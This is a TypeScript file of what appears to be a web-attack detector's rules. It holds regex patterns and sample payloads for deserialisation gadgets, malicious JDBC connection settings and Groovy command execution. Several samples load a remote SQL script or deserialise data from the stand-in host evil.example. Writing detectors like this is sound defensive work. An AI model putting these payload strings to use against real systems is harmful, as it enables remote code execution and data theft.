import { foundWithin } from '../lex/found-within.ts'
import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/** Characters of an address behind its driver. */
const ADDRESS = 316
const inDatabase = foundWithin({
  opening: /\bjdbc:h2:/,
  inside: /init\s{0,2}=|runscript|trace_level/,
  reach: ADDRESS,
  barriers: '\\s',
})
const inAddress = foundWithin({
  opening: /\bjdbc:[\w:]{2,16}?:/,
  inside:
    /autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile|slavehost=|:resource:https?:/,
  reach: ADDRESS,
  barriers: '\\s',
})
const SETTING =
  /;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)|[?&;]allow(?:loadlocalinfile|urlinlocalinfile|_local_infile)=(?:true|yes|1)\b/

/** A setting of a database address that makes the driver load or run something. */
function findDriverSetting({ lower }: Reading): Span | undefined {
  const address = inDatabase(lower) ?? inAddress(lower)
  if (address !== undefined) return address
  const setting = SETTING.exec(lower)
  return setting === null ? undefined : { start: setting.index, end: setting.index + setting[0].length }
}

/**
 * Types that harm whoever builds an object of a type that the sender names: gadgets of .NET, PHP and
 * Java, and database addresses that make the driver load code.
 */
export const gadgetRules: readonly Rule[] = [
  pattern(
    'deserialisation/dotnet',
    /\b(?:objectdataprovider\b[^\n]{0,200}(?:methodname|objecttype|process)|expandedwrapper(?:of|`\d)|resourcedictionary\b[^\n]{0,200}(?:x:key|xaml)|system\.(?:windows\.data\.objectdataprovider|configuration\.install\.assemblyinstaller|data\.services\.internal|collections\.generic\.sortedset`\d\[\[|security\.principal\.windowsidentity|management\.automation\.pscredential,\s|diagnostics\.process,\s{0,2}system)|z:assembly\s{0,2}=|activitysurrogateselector|textformattingrunproperties|schemas\.microsoft\.com\/clr\/(?:nsassem|assem|ns)\/|typeconfusedelegate|psobject,\s{0,2}system)/,
    {
      score: 5,
      quotable: true,
      words: WORD.java,
      attacks: [
        '<ObjectDataProvider MethodName="Start"/>',
        'System.Collections.Generic.SortedSet`1[[System.String]]',
        'ExpandedWrapper`2[[x]]',
      ],
      benign: [
        'System.Collections.Generic.List`1',
        'the resource dictionary',
        'ObjectDataProvider',
        'System.Management.Automation.PSCredential',
      ],
    },
  ),
  pattern(
    'deserialisation/php-gadget',
    /^\s{0,4}\\{0,4}(?:guzzlehttp\\{1,4}(?:psr7\\{1,4}fnstream|cookie\\{1,4}filecookiejar)|(?:monolog\\{1,4}handler|illuminate\\{1,4}(?:broadcasting|bus|foundation\\{1,4}testing)|symfony\\{1,4}component\\{1,4}(?:cache|process))(?!\\{1,4}$)|swift_\w{1,24}|yii\\{1,4}(?:rest\\{1,4}|db\\{1,4}batchqueryresult|log\\{1,4}|caching\\{1,4}|base\\{1,4}behavior)|phpunit\\{1,4}framework\\{1,4}mock|zend_log|imagick|splfileobject|craft\\{1,4}behaviors\\{1,4})|^_fn_(?:close|__tostring)$|^__construct\(\)$/,
    {
      score: 5,
      atStart: true,
      words: WORD.php,
      attacks: [
        'GuzzleHttp\\Psr7\\FnStream',
        '\\\\GuzzleHttp\\\\Psr7\\\\FnStream',
        'craft\\behaviors\\FieldLayoutBehavior',
        '_fn_close',
      ],
      benign: ['App\\Models\\User', 'guzzle', 'Illuminate\\Http\\Request', 'Illuminate\\Bus\\'],
    },
  ),
  {
    id: 'java/jdbc',
    family: 'java',
    quotable: false,
    needs: [/(?:jdbc:|runscript|autodeserialize=|socketfactory=|infile=)/],
    chars: 0,
    find: findDriverSetting,
    score: 5,
    words: WORD.java,
    attacks: [
      "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
      'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
      'jdbc:sqlite::resource:http://evil.example/x.db',
      'mysql://root@evil.example/a?allowLoadLocalInfile=true',
      'jdbc:derby:db;startMaster=true;slaveHost=evil.example',
      'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
    ],
    benign: [
      'jdbc:postgresql://db.example:5432/shop?ssl=true',
      'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
      'a jdbc driver',
    ],
  },
  // A service of Axis that is described in the request: a class of the server, answering to whoever calls.
  pattern(
    'java/deployment',
    /(?:^|["'])!-->\s{0,4}<\w|<(?:\w{1,12}:)?(?:deployment|undeployment)\b[^<>]{0,200}axis\/wsdd|\bprovider\s{0,2}=\s{0,2}["']java:(?:rpc|ejb|msg)["']/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.less | CHAR.equals,
      words: 0,
      attacks: ['<service name="x" provider="java:RPC">', '!--><ns1:deployment xmlns:ns1="x">'],
      benign: ['<!-- x --><p>', '<deployment name="web"/>', 'provider="java"'],
    },
  ),
  pattern(
    'java/groovy',
    /["'\]]\s{0,2}\.\s{0,2}execute\s{0,2}\(\s{0,2}\)|\bdef\s{1,4}\w{1,24}\s{0,4}=\s{0,4}\w{1,24}\.execute\s{0,2}\(\s{0,2}\)|\.execute\(\s{0,2}\)\s{0,2}\.\s{0,2}(?:(?:get)?(?:text|in|err|inputstream)\b|waitfor)|@(?:grabconfig|grabresolver|asttest|grab)\s{0,2}\(|\{\{(?:groovy|velocity|python)(?:\s[^{}]{0,40})?\}\}|\{\{async\s[^{}]{0,40}\}\}/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren | CHAR.brace,
      words: WORD.java,
      attacks: [
        'println "id".execute().text',
        "def c='id';def r=c.execute().text;r",
        "@Grab(group='a',module='b',version='1')",
        '{{groovy}}println(1){{/groovy}}',
      ],
      benign: ['command.execute()', 'cursor.execute().fetchall()', 'grab (it)', '{{ python }}'],
    },
  ),
]
